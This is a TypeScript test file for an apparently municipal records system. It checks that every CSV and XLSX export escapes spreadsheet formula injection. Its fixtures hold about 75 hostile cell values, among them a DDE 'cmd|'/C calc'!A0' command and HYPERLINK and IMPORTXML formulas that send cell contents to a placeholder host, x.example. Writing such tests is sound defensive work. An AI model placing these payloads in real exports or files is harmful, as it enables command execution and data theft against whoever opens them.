import ExcelJS from "exceljs";
import { beforeAll, expect, test } from "vitest";
import { calendarVersion } from "@/lib/calendar/queries";
import { addDays, cityDay, weekdayOf } from "@/lib/calendar/rules";
import { receiveDocumentRegister, receiveRegister, runBatch, startDocumentImport, startImport } from "@/lib/imports/commands";
import { actor, asOwner, foundCity, unit } from "../city";
import { bytes } from "../imports/importing";
import { incomingHeadings, registerCsv } from "../imports/old-registers";
import { csvOf, headings, registerRow } from "../imports/samples/register";
import { zipEntries } from "../imports/samples/zip";
import { as, key } from "./acts";
import { isMutating, type Person, routes, title } from "./callers";
import { whoMay } from "./rights";

/**
 * T-78. Names that a spreadsheet would run stand wherever a file of ours takes its words from; every route that answers with a table as a
 * file is asked for it, and read as a spreadsheet reads it, in whichever separator its region has.
 *
 * Seen once in a spreadsheet program itself (Gnumeric 1.12.55, `ssconvert --recalc`, 2026-11-27): of these 75 texts written by our own
 * writers, the workbook gave back all 75 as text, letter by letter, and the CSV, read with commas where we wrote semicolons, 155 cells
 * of text and numbers; neither had a formula or an error. As a control the same program made a formula of a bare "=1+1".
 */
const starts = ["=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠", " =", '"='];
const bodies = [
  'HYPERLINK("http://x.example?"&A1,"Lan")',
  "cmd|'/C calc'!A0",
  "1+1",
  'IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
  "SUM(A1:A9)*2",
];
/** Also behind a separator, where a file opened with another one begins a cell. */
const within = [";", ",", "\t", "|", "\n"].flatMap((sign) => [`Lan${sign}=1+1`, `Lan${sign}"=1+1"`, `Lan${sign}@SUM(A1)`]);
const payloads = [...starts.flatMap((start) => bodies.map((body) => `${start}${body}`)), ...within];

const files = routes.filter(
  (r) => /\.(csv|xlsx)$/.test(r.handler.declaration.path) || r.handler.declaration.id === "exports.table",
);
let batch = 0;
let register = 0;
const year = `from=${cityDay(new Date()).slice(0, 4)}-01-01&to=${cityDay(new Date()).slice(0, 4)}-12-31`;
const queries: Record<string, string> = {
  "quality.reported-sheet": `?month=${cityDay(new Date()).slice(0, 7)}`,
  "documents.register-xlsx": `?bookId=1&year=${cityDay(new Date()).slice(0, 4)}`,
  "quality.report-xlsx": `?${year}`,
  "registers.xlsx": `?unitId=${unit.tranPhu}&${year}`,
};
/** A storm day whose name is a formula, next week: it moves a dossier of this register. */
const storm = async () => ({
  change: {
    ...{ act: "set-days", days: [{ on: soon(7), kind: "SWAPPED_OFF" }], status: "CONFIRMED" },
    ...{ name: payloads[0], source: "@SUM(1) Công điện 01" },
  },
  version: await calendarVersion(),
});
/** The working day so many days ahead, or the next. */
const soon = (days: number): string => {
  const on = addDays(cityDay(new Date()), days);
  return weekdayOf(on) > 5 ? soon(days + 1) : on;
};
const questions: Record<string, () => Promise<unknown>> = { "calendar.preview-csv": storm, "calendar.preview-xlsx": storm };
const people: Record<string, Person> = { L: "leader", H: "head", O: "officer", S: "specialist", I: "admin", A: "auditor" };

beforeAll(async () => {
  await foundCity();
  const row = [...registerRow(1, 20)];
  const rejected = payloads.filter((one) => !/[\r\n]/.test(one)).map((text) => row.with(1, "xấu").with(4, text).with(5, text));
  const by = { actor: actor("officer"), now: new Date() };
  const sent = { unitId: unit.tranPhu, sender: "Sổ", fileName: "so.csv", idempotencyKey: null };
  batch = (await receiveRegister(by, bytes(csvOf([[...headings], ...rejected])), sent)).id;
  await startImport(by, { batchId: batch });
  await runBatch(batch);
  const lines = payloads.filter((one) => !/[\r\n]/.test(one));
  const clerk = { actor: actor("clerk"), now: new Date() };
  const old = lines.map((text) => ["x", "03/01/2023", text, text, "02/01/2023", text, text, "", text.replaceAll(";", "")]);
  const of = { unitId: unit.tranPhu, direction: "INCOMING" as const, year: 2023, bookId: null };
  const told = { ...of, fileName: "so.csv", idempotencyKey: null };
  register = (await receiveDocumentRegister(clerk, bytes(registerCsv(incomingHeadings, old)), told)).id;
  await startDocumentImport(clerk, { batchId: register });
  await runBatch(register);
  await asOwner(async (c) => {
    await c.query(
      `insert into dossier (code, procedure_id, unit_id, receiving_unit_id, channel, state, applicant_name, applicant_search, applicant_address, subject, accepted_at, accepted_on)
       select 'H22.15.7-' || to_char(now() at time zone 'Asia/Ho_Chi_Minh', 'YYMMDD') || '-' || (5000 + n), 3, 3, 3, 'COUNTER', 'ACCEPTED', text, 'x', text, text,
         now(), (now() at time zone 'Asia/Ho_Chi_Minh')::date
       from unnest($1::text[]) with ordinality as p (text, n)`,
      [payloads],
    );
    await c.query(
      `with book as (insert into document_book (id, unit_id, direction, name, type_ids, opened_at, opened_by)
         values (1, $2, 'INCOMING', '=1+1', '{}', now(), 'user:1') returning id),
       register as (insert into document_register (book_id, year, last_number) select id, $3, 999 from book)
       insert into document (direction, state, unit_id, type_id, book_id, year, number, symbol, subject, issuer, recipients, note, search, issued_on, arrived_on,
         registered_on, registered_at, content_hash, entered_at, entered_by, entered_by_name)
       select 'INCOMING', 'REGISTERED', $2, 1, 1, $3, n, text, text, text, array[text], text, '', now()::date, now()::date, now()::date, now(), 'x', now(), 'user:1', text
       from unnest($1::text[]) with ordinality as p (text, n)`,
      [payloads, unit.tranPhu, Number(cityDay(new Date()).slice(0, 4))],
    );
    await c.query(
      `insert into camera (code, name, group_id, unit_id, address, main_stream, valid_from)
       select 'GT-' || n, text, 1, $2, text, 'rtsp://10.20.1.5/' || n, '2020-01-01' from unnest($1::text[]) with ordinality as p (text, n)`,
      [payloads, unit.tranPhu],
    );
    await c.query(
      "update unit set name = '=HYPERLINK(\"http://x.example\";\"' || name || '\")', short_name = '@SUM(1)' || short_name",
    );
    await c.query("update procedure set name = '+1+cmd|''/C calc''!A0 ' || name");
    await c.query("update sector set name = '-2+3+' || name");
    await c.query("update app_user set name = '=1+1 ' || name");
    // One of the register that runs past next week: a calendar change moves it.
    await c.query(`update dossier set due_at = $1::timestamptz, due_on = $2::date where applicant_name = $3`, [
      `${soon(14)}T17:00:00+07`,
      soon(14),
      payloads[0],
    ]);
    await c.query("select fold_dossier_cells()");
  });
});

const batchOf = (id: string) => (id.startsWith("document-imports.") ? register : batch);
async function fileOf(route: (typeof files)[number]): Promise<{ type: string; content: Buffer }> {
  const { id, path, auth } = route.handler.declaration;
  const person = people[auth === "public" ? "L" : ((whoMay[id] ?? "")[0] ?? "")];
  if (!person) throw new Error(`nobody named may call ${id}`);
  const table = {
    title: payloads[0],
    notes: payloads.slice(0, 9),
    columns: [payloads[1], "n"],
    rows: payloads.map((text) => [text, -1.5]),
  };
  const request = new Request(`http://localhost:3000${path.replace("{id}", String(batchOf(id)))}${queries[id] ?? ""}`, {
    method: route.method,
    headers: {
      ...{ "x-client-address": "127.0.0.1", cookie: await as(person) },
      ...(isMutating(route) ? { ...key(), "content-type": "application/json", "sec-fetch-site": "same-origin" } : {}),
    },
    ...(isMutating(route) ? { body: JSON.stringify((await questions[id]?.()) ?? table) } : {}),
  });
  const response = await route.handler(request, { params: Promise.resolve({ id: String(batchOf(id)) }) });
  const content = Buffer.from(await response.arrayBuffer());
  expect(response.status, content.toString("utf8").slice(0, 300)).toBe(200);
  return { type: response.headers.get("content-type") ?? "", content };
}

/** Would a spreadsheet run what stands in a cell? A number is one, with its sign. */
const runs = (cell: string): boolean => /^"?[=+\-@＝＋－＠]/.test(cell) && !/^"?[-+]?\d+([.,]\d+)*"?$/.test(cell);
/** The cells of a text file in any region: cut at every separator there is, in quotes or out of them. */
const cellsOf = (text: string): string[] => text.replace(/^\ufeff/, "").split(/[;,\t|\r\n]/);

test("every table that is given out as a file is among these", () => {
  expect(files.length).toBeGreaterThanOrEqual(11);
  const others = routes
    .filter((r) => r.handler.declaration.isExport && !files.includes(r))
    .map((r) => r.handler.declaration.path);
  expect(others.filter((path) => !/\.pdf$|\/print$|\/pdf$/.test(path))).toEqual([]);
});

test.each(files.map((r) => [title(r), r] as const))("T-78: of %s no cell is run", async (_, route) => {
  const { type, content } = await fileOf(route);
  if (!type.includes("spreadsheetml")) {
    const cells = cellsOf(content.toString("utf8"));
    expect(cells.filter(runs)).toEqual([]);
    expect(
      cells.some((cell) => /^"?'[=+\-@＝]/.test(cell)),
      "what looks like a formula came that far",
    ).toBe(true);
    return;
  }
  const parts = zipEntries(content);
  for (const [name, data] of parts)
    if (/worksheets\/.*\.xml$/.test(name)) expect(data.toString("utf8"), name).not.toMatch(/<(\w+:)?f[\s/>]/);
  expect([...parts.keys()].filter((name) => /externalLink|vba|macrosheet|connections/i.test(name))).toEqual([]);
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(content as unknown as ExcelJS.Buffer);
  let hostile = 0;
  book.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect([cell.formula, cell.hyperlink], cell.address).toEqual([undefined, undefined]);
        if (typeof cell.value === "string" && runs(cell.value)) hostile += 1;
      }),
    ),
  );
  expect(hostile, "what looks like a formula came that far, as text").toBeGreaterThan(0);
});

test("control: what would run is seen, whichever way it is cut", () => {
  expect(payloads.length).toBeGreaterThanOrEqual(70);
  expect(cellsOf("a;=1+1").filter(runs)).toEqual(["=1+1"]);
  expect(cellsOf('"Lan,=1+1"').filter(runs)).toEqual(['=1+1"']);
  expect(cellsOf("-3;-1.5;'=1+1;2026-01-01").filter(runs)).toEqual([]);
});
